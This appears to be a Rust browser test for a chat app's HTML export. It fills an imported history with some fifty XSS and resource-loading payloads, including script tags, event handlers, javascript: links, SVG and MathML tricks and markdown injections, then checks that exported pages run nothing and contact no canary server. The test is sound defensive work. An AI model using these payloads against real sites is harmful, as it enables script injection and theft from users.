//! Pages that were exported from a history full of hostile words, opened from disk in a real browser: nothing of them runs,
//! nothing is asked of anybody, and they look as they should without a network.

use std::path::Path;

use capibara6_journeys::{Browser, Home, until};
use serde_json::{Value, json};

use crate::canary::Canary;
use crate::command::Data;

/// What would show that a script has run.
const RUN: &str = "window.ran=1,fetch('//CANARY/ran')";

/// Ways to run a script, to ask for something, or to break out of the page. `CANARY` is the server that nobody should ask,
/// `RUN` a script.
const HOSTILE: &[&str] = &[
    "<script>RUN</script>",
    "</script><script>RUN</script>",
    "</title><script>RUN</script><title>",
    "</style><script>RUN</script><style>",
    "--></textarea></noscript></template><script>RUN</script>",
    "<script src=//CANARY/script.js></script>",
    "<script src='http://CANARY/script.js' async type=module></script>",
    "<img src=x onerror=\"RUN\">",
    "<img src=http://CANARY/img.png srcset='http://CANARY/img2.png 2x'>",
    "<svg onload=\"RUN\"><script>RUN</script><image href=http://CANARY/svg.png /><use href='http://CANARY/use.svg#a'/></svg>",
    "<svg><style>@import 'http://CANARY/svg.css';</style><animate onbegin=RUN attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>",
    "<math href=javascript:RUN><mtext><script>RUN</script></mtext><maction actiontype=statusline xlink:href=http://CANARY/math>x</maction></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "<iframe src=http://CANARY/frame></iframe><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data=http://CANARY/object></object><embed src=http://CANARY/embed>",
    "<link rel=stylesheet href=http://CANARY/style.css><link rel=preload as=image href=http://CANARY/preload>",
    "<link rel=prefetch href=http://CANARY/prefetch><link rel=dns-prefetch href=//CANARY><link rel=preconnect href=http://CANARY>",
    "<link rel=icon href=http://CANARY/icon.png><link rel=manifest href=http://CANARY/manifest.json>",
    "<style>@import url(http://CANARY/import.css); body{background:url(http://CANARY/css.png)} @font-face{font-family:x;src:url(http://CANARY/font.woff)} *{font-family:x}</style>",
    "<p style=\"background:url('http://CANARY/attribute.png')\">styled</p>",
    "<meta http-equiv=refresh content='0;url=http://CANARY/refresh'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\"><script>RUN</script>",
    "<base href=http://CANARY/><a href=relative>relative</a>",
    "<form action=http://CANARY/form id=f><input name=a onfocus=RUN autofocus><button>x</button></form>",
    "<video src=http://CANARY/video poster=http://CANARY/poster autoplay></video><audio src=http://CANARY/audio autoplay></audio>",
    "<video><source onerror=RUN><track src=http://CANARY/track></video>",
    "<body onload=RUN onpageshow=RUN background=http://CANARY/body.png>",
    "<details open ontoggle=RUN><summary>x</summary></details>",
    "<a href=javascript:RUN ping=http://CANARY/ping id=a autofocus onfocus=RUN>x</a>",
    "<div onmouseover=RUN onpointerenter=RUN style=animation-name:x onanimationstart=RUN>over</div>",
    "<!-- unclosed comment <script>RUN</script>",
    "<!--><script>RUN</script>-->",
    "<![CDATA[<script>RUN</script>]]><?xml-stylesheet href='http://CANARY/xml.css'?>",
    "<template><script>RUN</script></template><noscript><img src=http://CANARY/noscript></noscript>",
    "[link](javascript:RUN) [Link](JaVaScRiPt:RUN) [tab](java\tscript:RUN) [entity](&#106;avascript:RUN)",
    "[data](data:text/html,<script>RUN</script>) [vb](vbscript:x) [file](file:///etc/passwd) [none](//CANARY/none)",
    "<javascript:RUN> <data:text/html,x>",
    "![picture](http://CANARY/markdown.png \"title\") ![svg](data:image/svg+xml,<svg onload=RUN>)",
    "[![both](http://CANARY/linked.png)](http://CANARY/around)",
    "![reference][r]\n\n[r]: http://CANARY/reference.png 'x\" onmouseover=\"RUN'",
    "[x](http://CANARY/\"onmouseover=\"RUN) [y](<http://CANARY/' onclick='RUN>)",
    "```html\" onload=\"RUN\n</code></pre><script>RUN</script>\n```\n\n`</code><script>RUN</script>`",
    "$\\href{javascript:RUN}{x}$ $$<script>RUN</script>$$ $</code><img src=x onerror=RUN>$",
    "| <img src=x onerror=RUN> | [x](javascript:RUN) |\n|---|---|\n| <script>RUN</script> | x |",
    "> <script>RUN</script>\n\n1. <img src=x onerror=RUN>\n\n- [x] <input onfocus=RUN autofocus>",
    "[^1]\n\n[^1]: <script>RUN</script><img src=http://CANARY/footnote.png>",
    "\u{0}<scr\u{0}ipt>RUN</scr\u{0}ipt><\u{0}img src=http://CANARY/nul.png>",
    "<scr<script>ipt>RUN</scr</script>ipt><<script>script>RUN</script>",
    "+ADw-script+AD4-RUN+ADw-/script+AD4- \u{FF1C}script\u{FF1E}RUN",
    "\u{202e}<script>RUN</script>\u{2066}gnp.gpj\u{2069}",
];

/// What stands in every conversation beside what is hostile.
const PLAIN: &str = "Plain words that everybody shall read.";

fn id(conversation: usize, place: usize) -> String {
    format!("00000000-0000-4000-8000-{conversation:06}{place:06}")
}

/// A history in which the words stand in every place that a person or a model writes.
fn history(canary: &Canary) -> Value {
    let hostile = |text: &str| text.replace("RUN", RUN).replace("CANARY", &canary.host());
    let conversations = HOSTILE.iter().map(|text| hostile(text)).enumerate().map(|(at, words)| {
        let message = |place: usize, role: &str, content: String| {
            json!({"id": id(at, place), "parent": (place > 2).then(|| id(at, place - 1)), "role": role,
                "status": "failed", "created_at": 1_700_000_000_000_u64, "content": content, "reasoning": words,
                "model": words, "scripted": true, "error": {"code": "server", "detail": words},
                "origin": {"conversation": id(at, 99), "title": words}})
        };
        json!({"id": id(at, 1), "title": words, "titled_by": "user", "pinned": false, "created_at": 1_700_000_000_000_u64,
            "updated_at": 1_700_000_000_000_u64, "project": id(at, 90), "leaf": id(at, 4), "messages": [
                message(2, "user", words.clone()),
                message(3, "assistant", format!("{words}\n\nstill {words}")),
                message(4, "assistant", format!("# Heading\n\n{PLAIN}"))]})
    });
    let projects = HOSTILE.iter().map(|text| hostile(text)).enumerate();
    let projects = projects.map(|(at, words)| json!({"id": id(at, 90), "name": words, "created_at": 1}));
    json!({"format": "capibara6-history", "version": 2, "projects": projects.collect::<Vec<_>>(), "weights": [],
        "conversations": conversations.collect::<Vec<_>>()})
}

/// Everything on a page that could do something, or point at what could.
const DANGEROUS: &str = "(() => {
    const elements = 'script,iframe,frame,object,embed,img,svg,math,video,audio,source,track,link,base,form,input,button,template,noscript,meta[http-equiv=refresh i]';
    const found = [...document.querySelectorAll(elements)].map((element) => element.outerHTML);
    for (const element of document.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        const plain = { A: ['href', 'title', 'rel'], OL: ['start'], HTML: ['lang', 'dir'], TIME: ['datetime'], META: ['charset', 'name', 'content', 'http-equiv'] };
        const allowed = [...(plain[element.tagName] ?? []), 'class', 'dir'];
        if (!allowed.includes(name)) found.push(`${element.tagName} ${name}=${value}`);
      }
    }
    for (const link of document.links) if (!['http:', 'https:', 'mailto:'].includes(link.protocol)) found.push(link.href);
    return found;
})()";

/// Does to a page what a person may do to it: opens, hovers, focuses.
const TOUCH: &str = "(() => {
    for (const details of document.querySelectorAll('details')) details.open = true;
    for (const element of document.querySelectorAll('*')) {
      for (const type of ['mouseover', 'pointerenter', 'focus', 'toggle', 'animationstart', 'load', 'error', 'begin']) {
        element.dispatchEvent(new Event(type));
      }
    }
    return true;
})()";

/// Whether the word behind each name runs from left to right, whatever the name does to the direction of text.
const READ_FROM_THE_LEFT: &str = "[...document.querySelectorAll('h2 small')].every(({ firstChild }) => {
    const range = document.createRange();
    const left = (at) => {
      range.setStart(firstChild, at);
      range.setEnd(firstChild, at + 1);
      return range.getBoundingClientRect().left;
    };
    return left(0) < left(firstChild.length - 1);
})";

async fn open(browser: &mut Browser, page: &Path) {
    let address = url::Url::from_file_path(page).expect("an absolute path").to_string();
    browser.visit(&address).await;
    let path = json!(page.display().to_string());
    let there = format!("decodeURIComponent(location.pathname) === {path} && document.readyState === 'complete'");
    browser.until("the page is open", &there).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_on_an_exported_page_runs_or_asks_anybody_for_anything() {
    let (canary, data) = (Canary::start(), Data::new());
    data.import(&history(&canary));
    let out = data.path().join("pages");
    data.done(&["export", "--format", "html", "--out", &out.display().to_string()]);
    let mut pages: Vec<_> = std::fs::read_dir(&out).unwrap().map(|entry| entry.unwrap().path()).collect();
    pages.sort();
    assert_eq!(pages.len(), HOSTILE.len());

    let home = Home::first_run().with_browser();
    let mut browser = home.open("about:blank").await;
    let titles: Vec<String> =
        HOSTILE.iter().map(|text| text.replace("RUN", RUN).replace("CANARY", &canary.host())).collect();
    for page in &pages {
        open(&mut browser, page).await;
        let place = page.display();
        assert_eq!(browser.read::<Vec<String>>(DANGEROUS).await, Vec::<String>::new(), "{place}");
        assert!(browser.read::<bool>(TOUCH).await);
        assert!(!browser.read::<bool>("'ran' in window").await, "{place}");
        assert_eq!(browser.read::<usize>("performance.getEntriesByType('resource').length").await, 0, "{place}");
        assert!(browser.address().await.starts_with("file:///"), "{place}");
        // The title is words: all of them, and nothing but them.
        let title: String = browser.read("document.querySelector('h1').textContent").await;
        let visible = |text: &str| text.split(|c: char| c.is_whitespace() || c.is_control()).collect::<String>();
        let known = titles.iter().any(|known| visible(known).starts_with(&visible(&title).replace('\u{FFFD}', "")));
        assert!(known, "{place}: {title:?}");
        // And the page is whole: what comes last can be read, in the page's own style.
        assert!(browser.text().await.contains(PLAIN), "{place}");
        let style = "getComputedStyle(document.querySelector('article.user .text')).borderRadius";
        assert_eq!(browser.read::<String>(style).await, "12px", "{place}");
        assert_eq!(browser.read::<usize>("document.querySelectorAll('article').length").await, 3, "{place}");
        // A name that turns the direction of text around turns around nothing but itself.
        assert!(browser.read::<bool>(READ_FROM_THE_LEFT).await, "{place}");
    }
    assert_eq!(canary.asked(), [""; 0]);

    // The same browser runs scripts and asks the canary where a page lets it: the test can fail.
    let control = data.path().join("control.html");
    let script = format!("<!doctype html><script>{}</script>", RUN.replace("CANARY", &canary.host()));
    std::fs::write(&control, script.replace("'//", "'http://")).unwrap();
    open(&mut browser, &control).await;
    browser.until("the control has run", "window.ran === 1").await;
    until("the control is seen", async || (!canary.asked().is_empty()).then_some(())).await;
    assert_eq!(canary.asked(), ["/ran"]);
    browser.close().await;
}
